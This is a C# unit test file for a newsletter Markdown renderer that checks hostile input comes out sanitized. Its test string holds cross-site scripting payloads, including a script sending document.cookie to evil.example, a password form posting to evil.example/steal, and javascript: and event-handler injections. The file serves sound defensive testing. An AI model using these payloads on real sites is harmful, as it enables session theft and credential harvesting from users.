using System.Text.RegularExpressions;
using Newsletter.Content;
using Newsletter.Rendering;

namespace Newsletter.Tests.Rendering;

[Collection(RenderingCollection.Name)]
public sealed class MaliciousMarkdownTests(RenderingFixture fixture)
{
    private const string Attack = """
        ---
        title: Totally normal issue
        ---
        Hello <script>alert('intro')</script> reader.

        <script>document.location='https://evil.example/?c='+document.cookie</script>

        <iframe src="https://evil.example/frame"></iframe>

        <img src="https://example.com/x.png" onerror="alert(1)" alt="x">

        <div onclick="alert(2)" onmouseover="alert(3)">Click me</div>

        ## Links

        [plain](javascript:alert(4)) and [mixed case](JaVaScRiPt:alert(5)) and [data](data:text/html;base64,PHNjcmlwdD4=)

        <a href="javascript:alert(6)">raw anchor</a> and <a href="vbscript:msgbox(7)">vb</a>

        <form action="https://evil.example/steal"><input name="password"></form>

        <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">

        <link rel="stylesheet" href="https://evil.example/track.css">

        <svg onload="alert(8)"><circle r="4"/></svg>

        [attributes](https://example.com){onclick="alert(9)"}

        > <span style="background:url(javascript:alert(10))">quoted</span>
        """;

    [Fact]
    public async Task ScriptsFramesHandlersAndJavascriptUrlsComeOutInert()
    {
        var issue = new IssueReader().Parse(Attack, "attack.md");

        var html = (await fixture.Renderer.RenderIssueAsync(issue)).Html;

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<object", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<embed", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<form", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<svg", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<link", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("vbscript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("data:text", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil.example", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotMatch(new Regex(@"<[^>]+\son[a-z]+\s*=", RegexOptions.IgnoreCase), html);

        Assert.Contains("Click me", html);
        Assert.Contains("raw anchor", html);
        Assert.Contains("alt=\"x\"", html);
    }

    [Fact]
    public void UnsafeLinksStayOutOfTheLinksAppendixAndTheTextPart()
    {
        var issue = new IssueReader().Parse(Attack, "attack.md");

        Assert.All(issue.Links, l => Assert.Matches("^(https?|mailto):", l.Url));
        var body = IssueBody.Of(issue);
        var text = string.Join("\n", issue.Sections.SelectMany(body.BlocksOf).Select(b => b.Text));
        Assert.DoesNotContain("javascript:", text, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("plain and mixed case and data", text);
    }
}
